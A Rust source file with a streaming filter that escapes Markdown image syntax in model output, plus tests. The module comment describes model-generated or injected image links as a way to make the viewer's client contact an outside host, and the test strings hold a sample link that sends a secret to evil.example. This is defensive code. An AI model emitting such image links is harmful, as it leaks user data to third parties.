//! What a model says, without images: whoever shows Markdown would fetch them, from wherever the
//! model, or a title that it repeats, wants somebody to be seen.

/// Text as it arrives, in pieces.
#[derive(Default)]
pub(crate) struct Plain {
    /// The last character, of which `[` would make an image.
    after_bang: bool,
}

impl Plain {
    /// The next piece, with the beginning of an image written so that it is none.
    pub(crate) fn take(&mut self, piece: &str) -> String {
        let mut plain = String::with_capacity(piece.len());
        for c in piece.chars() {
            if self.after_bang && c == '[' {
                plain.push('\\');
            }
            plain.push(c);
            self.after_bang = c == '!';
        }
        plain
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_image_is_none_however_it_arrives() {
        for pieces in [
            &["Look: ![x](https://evil.example/?q=secret)!"][..],
            &["Look: !", "[x](https://evil.example/?q=secret)", "!"],
        ] {
            let mut plain = Plain::default();
            let said: String = pieces.iter().map(|piece| plain.take(piece)).collect();
            assert_eq!(said, "Look: !\\[x](https://evil.example/?q=secret)!");
        }
        assert_eq!(Plain::default().take("Done! [ ] milk"), "Done! [ ] milk");
    }
}
